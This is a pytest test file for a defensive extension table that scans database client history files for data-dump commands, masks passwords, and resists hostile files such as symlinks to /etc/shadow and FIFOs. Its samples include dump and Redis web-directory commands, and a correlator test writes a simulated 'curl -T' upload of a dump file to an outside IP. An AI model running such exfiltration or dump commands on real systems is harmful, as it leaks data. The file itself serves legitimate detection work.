"""db_client_history: real files in real homes, hostile ones included."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import uuid
from pathlib import Path

import pytest
from core_standin import EQUALS, CoreStandin

from osq_dbwatch import catalog
from osq_dbwatch.tables import TABLES, db_client_history
from osq_dbwatch.tables.db_client_history import MAX_COMMAND_OUT, MAX_FILE_BYTES, decode_octal
from osq_dbwatch.tables.env import TableEnv


@pytest.fixture
def homes(tmp_path: Path):
    """A passwd/group pair with two users whose homes live in tmp_path."""
    alice, bob = tmp_path / "home" / "alice", tmp_path / "home" / "bob"
    alice.mkdir(parents=True)
    bob.mkdir(parents=True)
    passwd = tmp_path / "passwd"
    passwd.write_text(
        f"root:x:0:0:root:{tmp_path}/nonexistent:/bin/bash\n"
        f"alice:x:1500:1500::{alice}:/bin/bash\n"
        f"bob:x:1501:1501::{bob}:/bin/bash\n"
        f"alias:x:1502:1502::{alice}:/bin/bash\n"  # shares alice's home: read once
        "broken line without fields\n"
    )
    group = tmp_path / "group"
    group.write_text("alice:x:1500:\nbob:x:1501:\n")
    env = TableEnv(passwd_path=str(passwd), group_path=str(group))
    return env, alice, bob


def _rows(env: TableEnv) -> list[dict[str, str]]:
    return TABLES["db_client_history"](env).rows()


def test_every_client_history_file(homes) -> None:
    env, alice, bob = homes
    (alice / ".psql_history").write_text(
        "select * from users;\n\\copy users to '/tmp/u.csv' csv\nALTER USER app PASSWORD 'hunter2';\n")
    (alice / ".mysql_history").write_text(
        "_HiStOrY_V2_\nselect\\040*\\040from\\040t\\040into\\040outfile\\040'/tmp/t.csv';\nshow\\040tables;\n")
    (bob / ".mongosh").mkdir()
    (bob / ".mongosh" / "mongosh_repl_history").write_text('db.users.find()\ndb.auth("app", "s3cr3t")\n')
    (bob / ".rediscli_history").write_text("keys *\nCONFIG SET dir /var/www/html\nAUTH hunter2\n")
    (bob / ".sqlite_history").write_text(".output /tmp/all.csv\nselect * from t;\n")
    (bob / ".dbshell").write_text("show dbs\n")
    rows = _rows(env)
    by_file: dict[str, list[dict[str, str]]] = {}
    for row in rows:
        by_file.setdefault(row["file"], []).append(row)
    psql = by_file[f"{alice}/.psql_history"]
    assert [r["line"] for r in psql] == ["1", "2", "3"]
    assert all(r["user"] == "alice" and r["uid"] == "1500" and r["engine"] == "postgres" for r in psql)
    assert psql[1]["dump_like"] == "1" and psql[1]["output_path"] == "/tmp/u.csv"
    assert psql[0]["dump_like"] == "0" and psql[0]["intent"] == ""
    assert "hunter2" not in psql[2]["command"] and "****" in psql[2]["command"]
    mysql = by_file[f"{alice}/.mysql_history"]
    assert mysql[0]["command"] == "select * from t into outfile '/tmp/t.csv';"  # \040 decoded, header skipped
    assert mysql[0]["line"] == "2" and mysql[0]["dump_like"] == "1"
    mongo = by_file[f"{bob}/.mongosh/mongosh_repl_history"]
    assert mongo[0]["engine"] == "mongo" and "s3cr3t" not in mongo[1]["command"]
    redis = by_file[f"{bob}/.rediscli_history"]
    assert redis[1]["dump_like"] == "1"
    assert "hunter2" not in redis[2]["command"]
    assert by_file[f"{bob}/.sqlite_history"][0]["dump_like"] == "1"
    assert by_file[f"{bob}/.dbshell"][0]["engine"] == "mongo"
    # alice's home is shared with `alias`: its files appear once
    assert len(psql) == 3 and {r["user"] for r in psql} == {"alice"}
    assert all(r["file_mtime"].isdigit() for r in rows)


def test_symlinked_history_to_shadow_yields_nothing(homes) -> None:
    env, alice, bob = homes
    os.symlink("/etc/shadow", alice / ".psql_history")
    os.symlink("/etc/shadow", bob / ".mysql_history")
    (bob / ".mongosh").symlink_to("/etc")  # a symlinked directory is not entered
    rows = _rows(env)
    assert rows == []
    # a home that is itself a symlink to another home is not read either
    other = alice.parent / "carol-real"
    other.mkdir()
    (other / ".psql_history").write_text("select 1;\n")
    os.symlink(other, alice.parent / "carol")
    passwd = Path(env.passwd_path)
    passwd.write_text(passwd.read_text() + f"carol:x:1503:1503::{alice.parent / 'carol'}:/bin/sh\n")
    assert _rows(env) == []
    shadow_first = open("/etc/shadow").readline().split(":")[0]
    assert all(shadow_first not in r["command"] for r in rows)


def test_fifo_and_device_histories_do_not_block(homes) -> None:
    env, alice, bob = homes
    os.mkfifo(alice / ".psql_history")
    os.mknod(bob / ".rediscli_history", 0o600 | 0o020000, os.makedev(1, 5))  # /dev/zero's numbers
    result: list[object] = []
    worker = threading.Thread(target=lambda: result.append(_rows(env)), daemon=True)
    worker.start()
    worker.join(10)
    assert not worker.is_alive(), "generate blocked on a FIFO or device"
    assert result == [[]]


def test_large_file_reads_only_the_tail_and_long_lines_are_cut(homes, monkeypatch) -> None:
    from osq_dbwatch.tables import db_client_history

    # What is read, not how fast: on a loaded machine the 5 s budget could end the read early.
    monkeypatch.setattr(db_client_history, "TIME_BUDGET_S", 600.0)
    env, alice, _ = homes
    line = "select 1;\n"
    count = (MAX_FILE_BYTES // len(line)) * 3
    with open(alice / ".psql_history", "w") as handle:
        handle.write(line * count)
        handle.write("select '" + "x" * 50_000 + "';\n")
        handle.write("\\copy t to '/tmp/last.csv'\n")
    rows = _rows(env)
    assert len(rows) < count / 2
    assert all(r["from_tail"] == "1" for r in rows)
    assert rows[-1]["dump_like"] == "1"  # the newest entries are the ones kept
    assert max(len(r["command"]) for r in rows) <= MAX_COMMAND_OUT


def test_non_utf8_history_is_escaped(homes) -> None:
    env, alice, _ = homes
    (alice / ".psql_history").write_bytes(b"select '\xff\xfe';\n")
    rows = _rows(env)
    assert rows[0]["command"] == "select '\\xff\\xfe';"


def test_user_and_uid_constraints(homes) -> None:
    env, alice, bob = homes
    (alice / ".psql_history").write_text("select 1;\n")
    (bob / ".psql_history").write_text("select 2;\n")
    from osq_dbwatch.tables.base import QueryContext

    table = TABLES["db_client_history"](env)
    ctx = QueryContext.from_dict({"constraints": [{"name": "uid", "list": [{"op": 2, "expr": "1501"}]}]})
    assert {r["user"] for r in table.rows(ctx)} == {"bob"}
    ctx = QueryContext.from_dict({"constraints": [{"name": "user", "list": [{"op": 2, "expr": "alice"}]}]})
    assert {r["user"] for r in table.rows(ctx)} == {"alice"}


def test_octal_decoding() -> None:
    assert decode_octal("a\\040b\\134c") == "a b\\c"
    assert decode_octal("no escapes") == "no escapes"


@pytest.fixture
def real_user(tmp_path: Path):
    """A real local user (useradd) whose home is in tmp_path; removed afterwards."""
    name = "dbwh" + uuid.uuid4().hex[:8]
    home = tmp_path / name
    subprocess.run(["useradd", "--home-dir", str(home), "--create-home", "--shell", "/bin/sh", name],
                   check=True, capture_output=True)
    try:
        yield name, home
    finally:
        subprocess.run(["userdel", name], capture_output=True)


def test_through_the_extension_with_a_real_user(real_user) -> None:
    name, home = real_user
    (home / ".psql_history").write_text("\\copy (select * from cards) to '/tmp/cards.csv' csv\n")
    os.symlink("/etc/shadow", home / ".mysql_history")
    with CoreStandin(env={"OSQ_DBWATCH_PYTHON": sys.executable}) as core:
        rows = core.generate("db_client_history", {"user": [(EQUALS, name)]})
    assert [(r["file"], r["line"], r["dump_like"]) for r in rows if r["user"] == name] == [
        (f"{home}/.psql_history", "1", "1")]


def test_hostile_history_stays_inside_the_time_budget(homes, monkeypatch) -> None:
    import time

    from osq_dbwatch.tables import db_client_history

    env, alice, bob = homes
    line = "select '" + "x" * 16000 + "';\n"
    for home in (alice, bob):
        for name in (".psql_history", ".mysql_history", ".rediscli_history", ".sqlite_history", ".dbshell"):
            (home / name).write_text(line * 64)
    monkeypatch.setattr(db_client_history, "TIME_BUDGET_S", 0.5)
    started = time.monotonic()
    rows = _rows(env)
    assert time.monotonic() - started < 3
    assert rows  # what was read in time is kept


# ---------------------------------------------------------------------------
# One list of history files: the catalog's, read by the table and the correlator


def _planted_source_file(home: Path, source: catalog.HistorySource) -> Path:
    """Where a client writes `source` in `home` (a directory source gets a file ending in its suffix)."""
    if source.suffix:
        directory = home / source.path
        directory.mkdir(parents=True, exist_ok=True)
        return directory / ("mongosh_repl" + source.suffix if source.tool == "mongosh" else "x" + source.suffix)
    return home / source.path


@pytest.fixture
def one_home_per_source(tmp_path: Path):
    """A user per catalog history source, each with one dump-like entry in that source's file."""
    passwd_lines = []
    planted: dict[str, tuple[catalog.HistorySource, str]] = {}  # user -> (source, output path)
    for number, source in enumerate(catalog.HISTORY_SOURCES):
        user = f"u{number}"
        home = tmp_path / "home" / user
        home.mkdir(parents=True)
        passwd_lines.append(f"{user}:x:{2000 + number}:{2000 + number}::{home}:/bin/bash\n")
        out = f"/tmp/h{number}.csv"
        _planted_source_file(home, source).write_text(f"select * from t;\nCOPY t TO '{out}';\n")
        planted[user] = (source, out)
    (tmp_path / "passwd").write_text("".join(passwd_lines))
    (tmp_path / "group").write_text("")
    return TableEnv(passwd_path=str(tmp_path / "passwd"), group_path=str(tmp_path / "group")), planted


def test_the_table_reads_every_catalog_history_source(one_home_per_source) -> None:
    env, planted = one_home_per_source
    rows = _rows(env)
    for user, (source, out) in planted.items():
        mine = [r for r in rows if r["user"] == user]
        assert [r["line"] for r in mine] == ["1", "2"], source
        assert all(r["engine"] == source.engine for r in mine)
        assert mine[1]["dump_like"] == "1" and mine[1]["output_path"] == out
        # the path the table emits maps back to the source it read
        assert catalog.history_source_for(mine[0]["file"]) == source


def test_table_and_correlator_name_the_same_client_for_every_history_file(one_home_per_source, tmp_path: Path) -> None:
    """Rows the table emits, fed to the correlator, name the client the catalog registers for that file."""
    from correlate_scenarios.helpers import correlate, final_by_chain
    from correlate_scenarios.make_scenarios import MON, Log

    env, planted = one_home_per_source
    rows = [r for r in _rows(env) if r["dump_like"] == "1"]
    assert len(rows) == len(catalog.HISTORY_SOURCES)
    log = Log()
    t = MON + 10 * 3600
    for number, row in enumerate(rows):
        obj = log._head("db_client_history", "db-1", t, 1 + number)
        obj["diffResults"] = {"removed": [], "added": [row]}
        log.lines.append(json.dumps(obj))
        uid = int(row["uid"])
        log.dump_file("db-1", t - 20, row["output_path"], row["user"], uid)
        log.transfer("db-1", t + 60, row["user"], uid, f"curl -T {row['output_path']} https://198.51.100.80/in",
                     "/usr/bin/curl", 9000 + number)
    path = tmp_path / "history.log"
    path.write_text("\n".join(log.lines) + "\n")
    findings = correlate([str(path)], str(tmp_path / "state.sqlite"), str(tmp_path / "out.jsonl"))
    named: dict[str, str] = {}  # history file -> tool the correlator named
    for finding in final_by_chain(findings).values():
        for evidence in finding["evidences"]:
            data = evidence.get("data", {})
            if data.get("query") == "db_client_history":
                named[data["history_file"]] = data["tool"]
    expected = {r["file"]: planted[r["user"]][0].tool for r in rows}
    assert named == expected


def test_history_source_for() -> None:
    for source in catalog.HISTORY_SOURCES:
        home = Path("/home/alice")
        assert catalog.history_source_for(str(_planted_source_file_name(home, source))) == source
    assert catalog.history_source_for("/home/a/.psql_history.bak") is None
    assert catalog.history_source_for("/home/a/.mongosh/notes.txt") is None
    assert catalog.history_source_for("/home/a/psql_history") is None
    assert catalog.history_source_for("") is None
    # mongosh 1.x writes ~/.mongodb/mongosh/mongosh_repl_history; 0.x wrote in ~/.mongosh/
    assert catalog.history_source_for("/root/.mongodb/mongosh/mongosh_repl_history").tool == "mongosh"  # type: ignore[union-attr]
    assert catalog.history_source_for("/root/.mongosh/.mongosh_repl_history").tool == "mongosh"  # type: ignore[union-attr]
    assert catalog.history_source_for("/root/.dbshell").tool == "mongo"  # type: ignore[union-attr]


def _planted_source_file_name(home: Path, source: catalog.HistorySource) -> Path:
    return home / source.path / ("x" + source.suffix) if source.suffix else home / source.path


def test_the_table_reads_the_catalog_list() -> None:
    assert db_client_history.HISTORY_SOURCES is catalog.HISTORY_SOURCES


def test_duckdb_history_through_the_catalog_alone(homes) -> None:
    env, alice, _ = homes
    (alice / ".duckdb_history").write_text(
        "SELECT count(*) FROM users;\nCOPY users TO '/tmp/users.csv';\n.once /tmp/o.csv\n"
        "ATTACH 'postgres:dbname=x password=S3cretDuck' AS pg;\n")
    rows = [r for r in _rows(env) if r["file"].endswith("/.duckdb_history")]
    assert [r["engine"] for r in rows] == ["duckdb"] * 4
    assert [(r["intent"], r["output_path"]) for r in rows[:3]] == [("", ""), ("COPY TO", "/tmp/users.csv"),
                                                                   (".output", "/tmp/o.csv")]
    assert "S3cretDuck" not in rows[3]["command"]
